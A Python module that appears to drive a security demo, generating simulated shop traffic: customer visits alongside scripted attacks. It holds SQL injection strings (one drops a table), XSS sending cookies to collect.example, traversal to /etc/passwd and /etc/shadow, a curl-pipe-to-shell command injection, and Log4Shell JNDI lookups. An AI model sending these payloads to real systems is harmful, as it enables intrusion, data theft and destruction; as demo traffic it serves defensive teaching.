"""What the demo's visitors do, as data: customers who shop, attackers who attack."""

import json
import random
from collections.abc import Iterator
from dataclasses import dataclass
from urllib.parse import quote

from services.cli.demo.http_words import Call, Headers
from services.cli.demo.shop import HOST, PRODUCTS, TOKEN, USERS

NETWORK = "10.83.0"
SHOP = f"{NETWORK}.2"
CUSTOMERS = tuple(f"{NETWORK}.{n}" for n in range(11, 19))
INJECTOR, BROWSER, MONITOR = f"{NETWORK}.66", f"{NETWORK}.77", f"{NETWORK}.90"
SCANNER = f"{NETWORK}.88"
AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Safari/605.1.15",
    "Mozilla/5.0 (Linux; Android 14) AppleWebKit/537.36 Chrome/126.0.0.0 Mobile Safari/537.36",
)
PLACES = (
    "admin", "backup", "config", "console", "dashboard", "db", "debug", "dev", "files", "hidden",
    "internal", "logs", "manage", "old", "private", "report", "secret", "server-status", "setup",
    "stage", "stats", "temp", "test", "upload", "users",
)  # fmt: skip
ENDINGS = ("", ".bak", ".old", ".php", ".zip", "/")


@dataclass(frozen=True, slots=True)
class Act:
    """One scene: what it is called, and its requests."""

    title: str
    calls: tuple[Call, ...]
    pause_s: float


def customer(number: int, chance: random.Random) -> Iterator[Call]:
    """One visit of one customer, from the front page to an order."""
    client = CUSTOMERS[number % len(CUSTOMERS)]
    user_id, (email, _) = list(USERS.items())[number % len(USERS)]
    common: Headers = (
        ("Host", HOST),
        ("User-Agent", AGENTS[number % len(AGENTS)]),
        ("Accept", "application/json, text/html"),
        ("Accept-Encoding", "gzip"),
    )
    known: Headers = (*common, ("Authorization", f"Bearer {TOKEN}{user_id}"))
    product = chance.choice(PRODUCTS)["id"]
    yield Call(client, "GET", "/", common)
    yield Call(client, "GET", "/assets/app.js", common)
    yield Call(client, "GET", f"/api/products?page={chance.randint(1, 2)}", common)
    word = chance.choice(("light", "rain jacket", "lock", "bell"))
    yield Call(client, "GET", f"/api/search?q={quote(word)}", common)
    yield Call(client, "GET", f"/api/products/{product}", common)
    yield _posted(client, "/api/login", common, {"email": email, "password": "correct horse"})
    yield Call(client, "GET", f"/api/users/{user_id}", known)
    order = {"items": [{"product_id": product, "quantity": chance.randint(1, 3)}], "gift": False}
    yield _posted(client, "/api/orders", known, order)
    yield Call(client, "GET", f"/api/orders/{5000 + chance.randint(1, 9)}", known)
    if chance.random() < 0.2:  # A dead link now and then is ordinary too.
        yield Call(client, "GET", "/assets/logo-2019.png", common)


def monitor() -> Call:
    """What keeps coming when nobody shops."""
    return Call(MONITOR, "GET", "/health", (("Host", HOST), ("User-Agent", "uptime-check/2.1")))


def acts() -> list[Act]:
    """The attacks, in the order in which they are played."""
    return [
        Act("SQL injection in the search and in the login", tuple(_sql()), 0.3),
        Act("script injection (XSS) in the search", tuple(_script()), 0.3),
        Act("path traversal and command injection", tuple(_system()), 0.3),
        Act("Log4Shell in the headers", tuple(_lookup()), 0.3),
        Act("forced browsing: one client tries a list of paths", tuple(_paths()), 0.05),
    ]


def words() -> list[str]:
    """The list of paths that forced browsing tries."""
    return [place + ending for place in PLACES for ending in ENDINGS]


def _attacker(agent: str = "curl/7.88.1") -> Headers:
    return (("Host", HOST), ("User-Agent", agent), ("Accept", "*/*"))


def _sql() -> Iterator[Call]:
    common = _attacker()
    for value in (
        "bell' OR '1'='1' -- ",
        "x' UNION ALL SELECT email, password FROM users -- ",
        "lock'; DROP TABLE orders; --",
        "1' AND SLEEP(5) AND 'a'='a",
    ):
        yield Call(INJECTOR, "GET", f"/api/search?q={quote(value)}", common)
    stolen = {"email": "admin' OR 1=1 -- ", "password": "x"}
    yield _posted(INJECTOR, "/api/login", common, stolen)


def _script() -> Iterator[Call]:
    for value in (
        "<script>fetch('//collect.example/?c='+document.cookie)</script>",
        '"><img src=x onerror=alert(document.domain)>',
        "<svg/onload=confirm(1)>",
    ):
        yield Call(INJECTOR, "GET", f"/api/search?q={quote(value)}", _attacker())


def _system() -> Iterator[Call]:
    common = _attacker()
    yield Call(INJECTOR, "GET", "/api/files?name=../../../../../../etc/passwd", common)
    yield Call(INJECTOR, "GET", "/assets/..%2f..%2f..%2f..%2fetc%2fshadow", common)
    for value in ("127.0.0.1; cat /etc/passwd", "$(curl http://collect.example/x.sh | sh)"):
        yield Call(INJECTOR, "GET", f"/api/tools/ping?host={quote(value)}", common)


def _lookup() -> Iterator[Call]:
    plain = "${jndi:ldap://collect.example:1389/a}"
    nested = "${${lower:j}ndi:${lower:l}dap://collect.example/b}"
    yield Call(INJECTOR, "GET", "/api/products", _attacker(plain))
    headers = (*_attacker(), ("X-Api-Version", nested))
    yield Call(INJECTOR, "GET", "/api/products/101", headers)


def _paths() -> Iterator[Call]:
    for word in words():
        yield Call(BROWSER, "GET", f"/{word}", _attacker("Mozilla/5.0"))


def _posted(client: str, target: str, headers: Headers, value: object) -> Call:
    body = json.dumps(value).encode()
    more = (("Content-Type", "application/json"), ("Content-Length", str(len(body))))
    return Call(client, "POST", target, (*headers, *more), body)
